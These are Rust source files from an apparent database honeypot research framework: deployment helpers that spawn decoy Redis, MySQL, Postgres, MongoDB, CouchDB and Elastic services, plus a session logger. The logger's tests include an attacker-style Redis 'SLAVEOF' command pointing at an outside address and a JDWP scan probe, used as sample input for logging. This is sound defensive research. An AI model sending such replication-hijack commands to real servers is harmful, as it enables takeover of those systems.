use crate::mongo_high::MongoHoneypot;
use crate::pg_med::StickyElephant;
use crate::redis_med::RedisHoneypot;
use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
use decoy_net::time::Clock;
use decoy_store::{ConfigVariant, Dbms, EventStore, HoneypotId, InteractionLevel};
use std::net::SocketAddr;
use std::sync::Arc;

/// What to deploy.
#[derive(Debug, Clone)]
pub struct HoneypotSpec {
    /// Identity (dbms, level, config, instance number).
    pub id: HoneypotId,
    /// Address to bind; port 0 lets the OS choose (the experiment harness
    /// does this and records the mapping).
    pub bind: SocketAddr,
    /// Time source for logging.
    pub clock: Clock,
    /// Seed for any fake data the config variant requires.
    pub seed: u64,
}

impl HoneypotSpec {
    /// A loopback spec with an OS-assigned port.
    pub fn loopback(id: HoneypotId, clock: Clock, seed: u64) -> Self {
        use std::net::{Ipv4Addr, SocketAddr};
        HoneypotSpec {
            id,
            bind: SocketAddr::from((Ipv4Addr::LOCALHOST, 0)),
            clock,
            seed,
        }
    }
}

/// A deployed instance.
pub struct RunningHoneypot {
    /// Identity of the instance.
    pub id: HoneypotId,
    /// The bound listener.
    pub server: ServerHandle,
}

impl RunningHoneypot {
    /// The address attackers should dial.
    pub fn addr(&self) -> SocketAddr {
        self.server.local_addr()
    }

    /// Stop the instance.
    pub async fn shutdown(self) {
        self.server.shutdown().await;
    }
}

/// Number of Mockaroo-style entries the paper loaded into fake-data Redis.
pub const REDIS_FAKE_ENTRIES: usize = 200;
/// Number of fake customer records loaded into the MongoDB honeypot.
pub const MONGO_FAKE_CUSTOMERS: usize = 200;

/// Spawn the honeypot described by `spec`, logging into `store`.
pub async fn spawn(store: Arc<EventStore>, spec: HoneypotSpec) -> std::io::Result<RunningHoneypot> {
    let options = ListenerOptions {
        max_sessions: 4096,
        clock: spec.clock.clone(),
    };
    let id = spec.id;
    let server = match (id.level, id.dbms) {
        (InteractionLevel::Low, _) => {
            Listener::bind(spec.bind, LowHoneypot::new(store, id), options).await?
        }
        (InteractionLevel::Medium, Dbms::Redis) => {
            let hp = if id.config == ConfigVariant::FakeData {
                let mut generator = decoy_fakedata::FakeDataGenerator::new(spec.seed);
                let entries = generator
                    .logins(REDIS_FAKE_ENTRIES)
                    .into_iter()
                    .map(|l| (format!("user:{}", l.username), l.password));
                RedisHoneypot::with_fake_data(store, id, entries)
            } else {
                RedisHoneypot::new(store, id)
            };
            Listener::bind(spec.bind, hp, options).await?
        }
        (InteractionLevel::Medium, Dbms::MySql) => {
            Listener::bind(
                spec.bind,
                crate::mysql_med::MySqlHoneypot::new(store, id),
                options,
            )
            .await?
        }
        (InteractionLevel::Medium, Dbms::Postgres) => {
            let allow_login = id.config != ConfigVariant::LoginDisabled;
            Listener::bind(
                spec.bind,
                StickyElephant::new(store, id, allow_login),
                options,
            )
            .await?
        }
        (InteractionLevel::Medium, Dbms::CouchDb) => {
            Listener::bind(
                spec.bind,
                crate::couch_med::CouchHoneypot::with_fake_customers(
                    store,
                    id,
                    spec.seed,
                    MONGO_FAKE_CUSTOMERS,
                ),
                options,
            )
            .await?
        }
        (InteractionLevel::Medium, Dbms::Elastic) => {
            Listener::bind(
                spec.bind,
                ElasticPot::with_book(store, id, ResponseBook::new()),
                options,
            )
            .await?
        }
        (InteractionLevel::High, Dbms::MongoDb) => {
            Listener::bind(
                spec.bind,
                MongoHoneypot::with_fake_customers(store, id, spec.seed, MONGO_FAKE_CUSTOMERS),
                options,
            )
            .await?
        }
        (level, dbms) => {
            return Err(std::io::Error::new(
                std::io::ErrorKind::Unsupported,
                format!("no {level:?}-interaction honeypot for {dbms:?} in the deployment"),
            ))
        }
    };
    Ok(RunningHoneypot { id, server })
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::framed::Framed;
    use decoy_wire::resp::{RespCodec, RespValue};
    use tokio::net::TcpStream;

    fn id(dbms: Dbms, level: InteractionLevel, config: ConfigVariant) -> HoneypotId {
        HoneypotId::new(dbms, level, config, 0)
    }

    #[tokio::test]
    async fn spawns_every_supported_spec() {
        let store = EventStore::new();
        let specs = [
            id(
                Dbms::MySql,
                InteractionLevel::Low,
                ConfigVariant::MultiService,
            ),
            id(
                Dbms::Postgres,
                InteractionLevel::Low,
                ConfigVariant::MultiService,
            ),
            id(
                Dbms::Redis,
                InteractionLevel::Low,
                ConfigVariant::SingleService,
            ),
            id(
                Dbms::Mssql,
                InteractionLevel::Low,
                ConfigVariant::MultiService,
            ),
            id(
                Dbms::MySql,
                InteractionLevel::Medium,
                ConfigVariant::Default,
            ),
            id(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::Default,
            ),
            id(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::FakeData,
            ),
            id(
                Dbms::Postgres,
                InteractionLevel::Medium,
                ConfigVariant::Default,
            ),
            id(
                Dbms::Postgres,
                InteractionLevel::Medium,
                ConfigVariant::LoginDisabled,
            ),
            id(
                Dbms::Elastic,
                InteractionLevel::Medium,
                ConfigVariant::Default,
            ),
            id(
                Dbms::CouchDb,
                InteractionLevel::Medium,
                ConfigVariant::FakeData,
            ),
            id(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
            ),
        ];
        let mut running = Vec::new();
        for spec_id in specs {
            let spec = HoneypotSpec::loopback(spec_id, Clock::simulated(), 7);
            running.push(spawn(store.clone(), spec).await.unwrap());
        }
        assert_eq!(running.len(), 12);
        for r in running {
            assert!(r.addr().port() != 0);
            r.shutdown().await;
        }
    }

    #[tokio::test]
    async fn unsupported_combination_errors() {
        let store = EventStore::new();
        let spec = HoneypotSpec::loopback(
            id(Dbms::MySql, InteractionLevel::High, ConfigVariant::Default),
            Clock::simulated(),
            0,
        );
        assert!(spawn(store, spec).await.is_err());
    }

    #[tokio::test]
    async fn fake_data_redis_has_200_entries() {
        let store = EventStore::new();
        let spec = HoneypotSpec::loopback(
            id(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::FakeData,
            ),
            Clock::simulated(),
            99,
        );
        let running = spawn(store, spec).await.unwrap();
        let stream = TcpStream::connect(running.addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        f.write_frame(&RespValue::command(&["DBSIZE"]))
            .await
            .unwrap();
        let RespValue::Integer(n) = f.read_frame().await.unwrap().unwrap() else {
            panic!("expected DBSIZE integer");
        };
        // duplicate generated usernames collapse in the keyspace
        assert!((190..=REDIS_FAKE_ENTRIES as i64).contains(&n), "{n}");
        running.shutdown().await;
    }
}
