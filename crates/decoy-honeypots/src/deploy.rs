//! Deployment helpers: turn a [`HoneypotSpec`] into a bound, running
//! listener. The experiment runner in `decoy-core` uses this to stand up
//! the full Table 4 fleet; the examples use it for single instances.

use crate::catalog::{Family, VersionProfile};
use crate::elastic::{ElasticPot, ResponseBook};
use crate::low::LowHoneypot;
use crate::mongo_high::MongoHoneypot;
use crate::pg_med::StickyElephant;
use crate::redis_med::RedisHoneypot;
use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
use decoy_net::supervisor::{
    HealthState, ListenerFactory, SupervisedListener, Supervisor, Transition, TransitionObserver,
};
use decoy_net::time::Clock;
use decoy_store::{
    ConfigVariant, Dbms, Event, EventKind, EventStore, HoneypotId, InteractionLevel,
};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

/// What to deploy.
#[derive(Debug, Clone)]
pub struct HoneypotSpec {
    /// Identity (dbms, level, config, instance number).
    pub id: HoneypotId,
    /// Address to bind; port 0 lets the OS choose (the experiment harness
    /// does this and records the mapping).
    pub bind: SocketAddr,
    /// Time source for logging.
    pub clock: Clock,
    /// Seed for any fake data the config variant requires.
    pub seed: u64,
}

impl HoneypotSpec {
    /// A loopback spec with an OS-assigned port.
    pub fn loopback(id: HoneypotId, clock: Clock, seed: u64) -> Self {
        use std::net::{Ipv4Addr, SocketAddr};
        HoneypotSpec {
            id,
            bind: SocketAddr::from((Ipv4Addr::LOCALHOST, 0)),
            clock,
            seed,
        }
    }
}

/// A deployed instance.
pub struct RunningHoneypot {
    /// Identity of the instance.
    pub id: HoneypotId,
    /// The bound listener.
    pub server: ServerHandle,
}

impl RunningHoneypot {
    /// The address attackers should dial.
    pub fn addr(&self) -> SocketAddr {
        self.server.local_addr()
    }

    /// Stop the instance, allowing in-flight sessions a bounded drain.
    pub async fn shutdown(self) {
        self.server
            .shutdown_with_deadline(Duration::from_secs(5))
            .await;
    }
}

/// Number of Mockaroo-style entries the paper loaded into fake-data Redis.
pub const REDIS_FAKE_ENTRIES: usize = 200;
/// Number of fake customer records loaded into the MongoDB honeypot.
pub const MONGO_FAKE_CUSTOMERS: usize = 200;

/// Spawn the honeypot described by `spec`, logging into `store`, with
/// default listener options.
pub async fn spawn(store: Arc<EventStore>, spec: HoneypotSpec) -> std::io::Result<RunningHoneypot> {
    let options = ListenerOptions {
        clock: spec.clock.clone(),
        ..ListenerOptions::default()
    };
    spawn_with_options(store, spec, options).await
}

/// Spawn the honeypot described by `spec` with explicit listener options
/// (session limits, fault injection). The resilience tests use this to run
/// families under tight deadlines and chaos plans.
pub async fn spawn_with_options(
    store: Arc<EventStore>,
    spec: HoneypotSpec,
    options: ListenerOptions,
) -> std::io::Result<RunningHoneypot> {
    let id = spec.id;
    let server = bind_listener(store, &spec, options, spec.bind).await?;
    Ok(RunningHoneypot { id, server })
}

/// Bind the listener for `spec` at `addr`. This is the single place the
/// (level, dbms) match lives; the supervisor calls it again on every
/// restart, re-seeding fake data identically from `spec.seed`.
async fn bind_listener(
    store: Arc<EventStore>,
    spec: &HoneypotSpec,
    options: ListenerOptions,
    addr: SocketAddr,
) -> std::io::Result<ServerHandle> {
    let id = spec.id;
    // Capability-flag coherence gate: an incoherent version profile (e.g.
    // a Mongo 4.4 banner with the wrong wire-version ceiling) is exactly
    // what fingerprinting scanners cross-reference, so it never binds.
    if let Some(family) = catalog_family(id.dbms) {
        VersionProfile::of(family)
            .validate()
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
    }
    let server = match (id.level, id.dbms) {
        (InteractionLevel::Low, _) => {
            Listener::bind(addr, LowHoneypot::new(store, id), options).await?
        }
        (InteractionLevel::Medium, Dbms::Redis) => {
            let hp = if id.config == ConfigVariant::FakeData {
                let mut generator = decoy_fakedata::FakeDataGenerator::new(spec.seed);
                let entries = generator
                    .logins(REDIS_FAKE_ENTRIES)
                    .into_iter()
                    .map(|l| (format!("user:{}", l.username), l.password));
                RedisHoneypot::with_fake_data(store, id, entries)
            } else {
                RedisHoneypot::new(store, id)
            };
            Listener::bind(addr, hp, options).await?
        }
        (InteractionLevel::Medium, Dbms::MySql) => {
            Listener::bind(
                addr,
                crate::mysql_med::MySqlHoneypot::new(store, id),
                options,
            )
            .await?
        }
        (InteractionLevel::Medium, Dbms::Postgres) => {
            let allow_login = id.config != ConfigVariant::LoginDisabled;
            Listener::bind(addr, StickyElephant::new(store, id, allow_login), options).await?
        }
        (InteractionLevel::Medium, Dbms::CouchDb) => {
            Listener::bind(
                addr,
                crate::couch_med::CouchHoneypot::with_fake_customers(
                    store,
                    id,
                    spec.seed,
                    MONGO_FAKE_CUSTOMERS,
                ),
                options,
            )
            .await?
        }
        (InteractionLevel::Medium, Dbms::Elastic) => {
            Listener::bind(
                addr,
                ElasticPot::with_book(store, id, ResponseBook::new()),
                options,
            )
            .await?
        }
        (InteractionLevel::High, Dbms::MongoDb) => {
            Listener::bind(
                addr,
                MongoHoneypot::with_fake_customers(store, id, spec.seed, MONGO_FAKE_CUSTOMERS),
                options,
            )
            .await?
        }
        (level, dbms) => {
            return Err(std::io::Error::new(
                std::io::ErrorKind::Unsupported,
                format!("no {level:?}-interaction honeypot for {dbms:?} in the deployment"),
            ))
        }
    };
    Ok(server)
}

/// The catalog family whose version profile a deployment of `dbms` must
/// satisfy (MSSQL is low-interaction-only and carries no profile).
fn catalog_family(dbms: Dbms) -> Option<Family> {
    match dbms {
        Dbms::MySql => Some(Family::MySql),
        Dbms::Postgres => Some(Family::Postgres),
        Dbms::MongoDb => Some(Family::MongoDb),
        Dbms::Redis => Some(Family::Redis),
        Dbms::Elastic => Some(Family::Elastic),
        Dbms::CouchDb => Some(Family::CouchDb),
        Dbms::Mssql => None,
    }
}

/// A honeypot kept alive by a [`Supervisor`]: the listener is rebound at
/// the same address after crashes, and health transitions are logged into
/// the deployment's event store.
pub struct SupervisedHoneypot {
    /// Identity of the instance.
    pub id: HoneypotId,
    /// Handle to the supervised listener.
    pub listener: SupervisedListener,
}

impl SupervisedHoneypot {
    /// The address attackers should dial (stable across restarts).
    pub fn addr(&self) -> SocketAddr {
        self.listener.addr()
    }
}

/// Source address health events are logged under (not attacker traffic).
const HEALTH_SRC: IpAddr = IpAddr::V4(Ipv4Addr::UNSPECIFIED);

/// Spawn `spec` under `supervisor`: the listener restarts on death with the
/// supervisor's backoff policy, and every post-bind health transition is
/// appended to `store` as an [`EventKind::Health`] event so the report can
/// build the fleet-uptime table. The initial healthy-on-bind transition is
/// not logged, keeping fault-free network runs byte-identical to direct
/// mode.
pub async fn spawn_supervised(
    store: Arc<EventStore>,
    spec: HoneypotSpec,
    supervisor: &Supervisor,
    options: ListenerOptions,
) -> std::io::Result<SupervisedHoneypot> {
    let id = spec.id;
    let name = format!(
        "{}/{:?}/{:?}#{}",
        id.dbms.label(),
        id.level,
        id.config,
        id.instance
    );
    let fault_seed = spec.seed;
    let bind = spec.bind;
    let factory_store = store.clone();
    let factory: ListenerFactory = Box::new(move |addr| {
        let store = factory_store.clone();
        let spec = spec.clone();
        let options = options.clone();
        Box::pin(async move { bind_listener(store, &spec, options, addr).await })
    });
    let observer_store = store.clone();
    let observer: TransitionObserver = Arc::new(move |t: &Transition| {
        // Skip the initial healthy-on-bind transition; log every real one.
        if t.state == HealthState::Healthy && t.restarts == 0 {
            return;
        }
        observer_store.log(Event {
            ts: t.at,
            honeypot: id,
            src: HEALTH_SRC,
            session: 0,
            kind: EventKind::Health {
                state: t.state,
                restarts: t.restarts,
                detail: t.detail.clone(),
            },
        });
    });
    let listener = supervisor
        .supervise(name, bind, fault_seed, factory, Some(observer))
        .await?;
    Ok(SupervisedHoneypot { id, listener })
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::framed::Framed;
    use decoy_wire::resp::{RespCodec, RespValue};
    use tokio::net::TcpStream;

    fn id(dbms: Dbms, level: InteractionLevel, config: ConfigVariant) -> HoneypotId {
        HoneypotId::new(dbms, level, config, 0)
    }

    #[tokio::test]
    async fn spawns_every_supported_spec() {
        let store = EventStore::new();
        let specs = [
            id(
                Dbms::MySql,
                InteractionLevel::Low,
                ConfigVariant::MultiService,
            ),
            id(
                Dbms::Postgres,
                InteractionLevel::Low,
                ConfigVariant::MultiService,
            ),
            id(
                Dbms::Redis,
                InteractionLevel::Low,
                ConfigVariant::SingleService,
            ),
            id(
                Dbms::Mssql,
                InteractionLevel::Low,
                ConfigVariant::MultiService,
            ),
            id(
                Dbms::MySql,
                InteractionLevel::Medium,
                ConfigVariant::Default,
            ),
            id(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::Default,
            ),
            id(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::FakeData,
            ),
            id(
                Dbms::Postgres,
                InteractionLevel::Medium,
                ConfigVariant::Default,
            ),
            id(
                Dbms::Postgres,
                InteractionLevel::Medium,
                ConfigVariant::LoginDisabled,
            ),
            id(
                Dbms::Elastic,
                InteractionLevel::Medium,
                ConfigVariant::Default,
            ),
            id(
                Dbms::CouchDb,
                InteractionLevel::Medium,
                ConfigVariant::FakeData,
            ),
            id(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
            ),
        ];
        let mut running = Vec::new();
        for spec_id in specs {
            let spec = HoneypotSpec::loopback(spec_id, Clock::simulated(), 7);
            running.push(spawn(store.clone(), spec).await.unwrap());
        }
        assert_eq!(running.len(), 12);
        for r in running {
            assert!(r.addr().port() != 0);
            r.shutdown().await;
        }
    }

    #[tokio::test]
    async fn unsupported_combination_errors() {
        let store = EventStore::new();
        let spec = HoneypotSpec::loopback(
            id(Dbms::MySql, InteractionLevel::High, ConfigVariant::Default),
            Clock::simulated(),
            0,
        );
        assert!(spawn(store, spec).await.is_err());
    }

    #[tokio::test]
    async fn fake_data_redis_has_200_entries() {
        let store = EventStore::new();
        let spec = HoneypotSpec::loopback(
            id(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::FakeData,
            ),
            Clock::simulated(),
            99,
        );
        let running = spawn(store, spec).await.unwrap();
        let stream = TcpStream::connect(running.addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        f.write_frame(&RespValue::command(&["DBSIZE"]))
            .await
            .unwrap();
        let RespValue::Integer(n) = f.read_frame().await.unwrap().unwrap() else {
            panic!("expected DBSIZE integer");
        };
        // duplicate generated usernames collapse in the keyspace
        assert!((190..=REDIS_FAKE_ENTRIES as i64).contains(&n), "{n}");
        running.shutdown().await;
    }
}
