//! Session logging shared by all honeypot families.
//!
//! A [`SessionLogger`] binds one accepted connection to the shared
//! [`EventStore`]: it resolves the effective source address (honoring a
//! PROXY-protocol announcement when present), stamps events with the
//! honeypot's id and the session's virtual time, and provides typed helpers
//! for the event kinds of §4.3.

use decoy_net::server::SessionCtx;
use decoy_store::{Event, EventKind, EventStore, HoneypotId};
use decoy_wire::foreign;
use std::net::IpAddr;
use std::sync::Arc;

/// Per-session logging handle.
#[derive(Clone)]
pub struct SessionLogger {
    store: Arc<EventStore>,
    honeypot: HoneypotId,
    src: IpAddr,
    session: u64,
    ctx: SessionCtx,
}

impl SessionLogger {
    /// Create a logger for one session. `proxied_src` is the address a
    /// PROXY header announced, if any; otherwise the TCP peer address is
    /// the source of record.
    pub fn new(
        store: Arc<EventStore>,
        honeypot: HoneypotId,
        ctx: SessionCtx,
        proxied_src: Option<IpAddr>,
    ) -> Self {
        SessionLogger {
            store,
            honeypot,
            src: proxied_src.unwrap_or_else(|| ctx.peer.ip()),
            session: ctx.session_seq,
            ctx,
        }
    }

    /// The effective source address of this session.
    pub fn src(&self) -> IpAddr {
        self.src
    }

    fn push(&self, kind: EventKind) {
        self.store.log(Event {
            ts: self.ctx.clock.now(),
            honeypot: self.honeypot,
            src: self.src,
            session: self.session,
            kind,
        });
    }

    /// Log the TCP connect.
    pub fn connect(&self) {
        self.push(EventKind::Connect);
    }

    /// Log the session end.
    pub fn disconnect(&self) {
        self.push(EventKind::Disconnect);
    }

    /// Log an authentication attempt.
    pub fn login(&self, username: &str, password: &str, success: bool) {
        self.push(EventKind::LoginAttempt {
            username: username.to_string(),
            password: password.to_string(),
            success,
        });
    }

    /// Log a command; `raw` is the rendered command, the clustering action
    /// is derived by masking volatile parameters.
    pub fn command(&self, raw: &str) {
        self.push(EventKind::Command {
            action: decoy_store::normalize_action(raw),
            raw: raw.to_string(),
        });
    }

    /// Log an opaque payload, running foreign-protocol recognition on it.
    pub fn payload(&self, bytes: &[u8]) {
        let recognized = foreign::recognize(bytes).map(|p| p.label().to_string());
        let preview: String =
            String::from_utf8_lossy(bytes.get(..bytes.len().min(256)).unwrap_or(bytes))
                .chars()
                .map(|c| if c.is_control() { '.' } else { c })
                .collect();
        self.push(EventKind::Payload {
            len: bytes.len(),
            recognized,
            preview,
        });
    }

    /// Log a protocol violation.
    pub fn malformed(&self, detail: impl Into<String>) {
        self.push(EventKind::Malformed {
            detail: detail.into(),
        });
    }

    /// Handle a decode fault: if the undecodable bytes are a recognizable
    /// foreign-protocol probe (RDP, JDWP, TLS, ...), log them as a payload
    /// capture; otherwise record the protocol violation. This is how the
    /// paper's Table 9 "scans for services unrelated to the DBMS" are
    /// observed on SQL/Redis ports.
    pub fn fault(&self, buffered: &[u8], err: &decoy_net::NetError) {
        if !buffered.is_empty() && foreign::recognize(buffered).is_some() {
            self.payload(buffered);
            return;
        }
        if err.is_peer_fault() {
            if buffered.is_empty() {
                self.malformed(err.to_string());
            } else {
                self.payload(buffered);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::server::ShutdownSignal;
    use decoy_net::time::Clock;
    use decoy_store::{ConfigVariant, Dbms, InteractionLevel};

    fn test_ctx() -> SessionCtx {
        SessionCtx {
            peer: "127.0.0.1:5555".parse().unwrap(),
            local_port: 6379,
            clock: Clock::simulated(),
            shutdown: ShutdownSignal::noop(),
            session_seq: 3,
        }
    }

    fn logger(store: Arc<EventStore>, proxied: Option<IpAddr>) -> SessionLogger {
        SessionLogger::new(
            store,
            HoneypotId::new(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            test_ctx(),
            proxied,
        )
    }

    #[test]
    fn proxied_source_wins_over_peer() {
        let store = EventStore::new();
        let proxied: IpAddr = "198.51.100.9".parse().unwrap();
        let log = logger(store.clone(), Some(proxied));
        assert_eq!(log.src(), proxied);
        log.connect();
        assert_eq!(store.by_src(proxied).len(), 1);
    }

    #[test]
    fn peer_is_source_without_proxy() {
        let store = EventStore::new();
        let log = logger(store.clone(), None);
        assert_eq!(log.src(), "127.0.0.1".parse::<IpAddr>().unwrap());
    }

    #[test]
    fn command_is_normalized_for_clustering() {
        let store = EventStore::new();
        let log = logger(store.clone(), None);
        log.command("SLAVEOF 203.0.113.1 8886");
        let events = store.all();
        let EventKind::Command { action, raw } = &events[0].kind else {
            panic!("expected command");
        };
        assert_eq!(action, "SLAVEOF <IP> <N>");
        assert_eq!(raw, "SLAVEOF 203.0.113.1 8886");
    }

    #[test]
    fn payload_recognition_and_preview_sanitization() {
        let store = EventStore::new();
        let log = logger(store.clone(), None);
        log.payload(b"JDWP-Handshake\x00\x01");
        let events = store.all();
        let EventKind::Payload {
            len,
            recognized,
            preview,
        } = &events[0].kind
        else {
            panic!("expected payload");
        };
        assert_eq!(*len, 16);
        assert_eq!(recognized.as_deref(), Some("jdwp-scan"));
        assert!(preview.starts_with("JDWP-Handshake"));
        assert!(!preview.contains('\x00'));
    }

    #[test]
    fn full_session_event_sequence() {
        let store = EventStore::new();
        let log = logger(store.clone(), None);
        log.connect();
        log.login("default", "", false);
        log.malformed("bad RESP type byte");
        log.disconnect();
        let kinds: Vec<_> = store.all().into_iter().map(|e| e.kind).collect();
        assert!(matches!(kinds[0], EventKind::Connect));
        assert!(matches!(kinds[1], EventKind::LoginAttempt { .. }));
        assert!(matches!(kinds[2], EventKind::Malformed { .. }));
        assert!(matches!(kinds[3], EventKind::Disconnect));
        // all share session id 3
        assert!(store.all().iter().all(|e| e.session == 3));
    }
}
